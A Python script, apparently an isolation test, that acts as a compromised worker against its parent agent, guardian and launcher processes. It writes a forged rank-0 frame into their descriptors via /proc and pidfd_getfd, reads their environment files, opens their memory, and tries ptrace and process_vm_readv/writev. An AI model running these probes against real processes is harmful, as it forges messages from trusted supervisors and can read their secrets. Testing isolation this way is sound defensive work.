"""Ways in which one process gets at another of the same user: through /proc, ptrace, and what takes descriptors.

As a program it is a worker that has turned: it tries them on its agent, the guardian above it, and on this machine
the launcher above that, to speak for rank 0, and prints a line for each that is not refused."""
import ctypes
import errno
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
VICTIM, OUTPUT, PTRACE_SEIZE, PTRACE_DETACH, PR_GET_DUMPABLE = 0, 68, 0x4206, 17, 3
PROCESS_VM_READV, PROCESS_VM_WRITEV, PIDFD_OPEN, PIDFD_GETFD = 310, 311, 434, 438
WORD = b"forged\n"
FRAME = struct.pack(">IBQI", VICTIM, 0, 1, len(WORD)) + WORD
FRAME = struct.pack(">IB", len(FRAME), OUTPUT) + FRAME


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def forge(pid, fd):
    os.write(os.open(f"/proc/{pid}/fd/{fd}", os.O_WRONLY | os.O_NONBLOCK), FRAME)
    return True


def forge_by_taking(pid, fd):
    process = libc.syscall(PIDFD_OPEN, pid, 0)
    taken = libc.syscall(PIDFD_GETFD, process, fd, 0)
    if process >= 0:
        os.close(process)
    return taken >= 0 and os.write(taken, FRAME) > 0


def attach(pid):
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        return False
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return True


def memory(pid, call):
    own = ctypes.create_string_buffer(8)
    mine, theirs = Piece(ctypes.addressof(own), 8), Piece(0x1000, 8)
    flags = ctypes.c_ulong(0)  # the seventh argument, on the stack: the upper half of an int there is whatever was there before
    ctypes.set_errno(0)
    if libc.syscall(call, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, flags) >= 0:
        return True
    if (refused := ctypes.get_errno()) in (errno.EPERM, errno.ESRCH):
        return False
    assert refused == errno.EFAULT, f"the call was not understood: {errno.errorcode[refused]}"
    return True  # it looked there


def attempts(pid, first=0):
    """What can be tried on a process, from that descriptor on: (what, how)."""
    for fd in range(first, 32):
        yield f"descriptor {fd}", lambda fd=fd: forge(pid, fd)
        yield f"descriptor {fd}, taken", lambda fd=fd: forge_by_taking(pid, fd)
    yield "list of descriptors", lambda: os.listdir(f"/proc/{pid}/fd") or True
    yield "memory", lambda: os.open(f"/proc/{pid}/mem", os.O_RDWR) >= 0
    yield "environment", lambda: open(f"/proc/{pid}/environ", "rb").read() or True
    yield "tracing", lambda: attach(pid)
    yield "reading", lambda: memory(pid, PROCESS_VM_READV)
    yield "writing", lambda: memory(pid, PROCESS_VM_WRITEV)


def got_at(attempt):
    try:
        return attempt()
    except OSError:
        return False


def above(pid):
    return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])


def main():
    agent = os.getppid()
    guardian = above(agent)
    launcher = above(guardian)
    for name, pid in (("agent", agent), ("guardian", guardian), ("launcher", launcher)):
        if pid == 1 or os.stat(f"/proc/{pid}").st_uid not in (0, os.getuid()):
            continue
        for what, attempt in attempts(pid, first=3 if name == "launcher" else 0):
            if got_at(attempt):
                print("got at", name, what, flush=True)
    print("dumpable", libc.prctl(PR_GET_DUMPABLE), flush=True)


if __name__ == "__main__":
    main()
